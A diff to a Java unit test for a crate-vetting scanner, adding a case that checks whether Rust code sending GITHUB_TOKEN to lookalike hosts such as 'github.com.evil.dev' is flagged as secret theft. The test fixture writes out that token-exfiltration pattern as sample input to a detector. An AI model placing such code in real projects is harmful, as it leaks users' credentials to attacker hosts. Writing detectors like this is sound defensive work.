@@ -10,6 +10,7 @@ import lazaret.testkit.CrateBuilder;
 import lazaret.vetting.inspect.SignalWeight;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /// Libraries that do on the word of their caller what others do unasked, each beside those. All
@@ -75,6 +76,19 @@ final class CallersChoiceTest {
             + host
             + ").set(\"Authorization\", &c.token().unwrap()); }";
     assertThat(strong(CLIENT + two)).contains("network-and-secrets");
+  }
+
+  /// The client of one service may name its host; a host that only begins like it is another.
+  @ParameterizedTest
+  @CsvSource({"api.github.com, false", "github.com.evil.dev, true", "evil.dev/github, true"})
+  void aTokenForAHostThatOnlyBeginsLikeThatOfTheServiceIsATheft(String host, boolean theft) {
+    String source =
+        HEAD
+            + "pub fn star() { let t = env::var(\"GITHUB_TOKEN\").unwrap(); ureq::post(\"https://"
+            + host
+            + "\").set(\"Authorization\", &t).call(); }";
+
+    assertThat(strong(source).contains("secret-sent")).isEqualTo(theft);
   }
 
   @Test
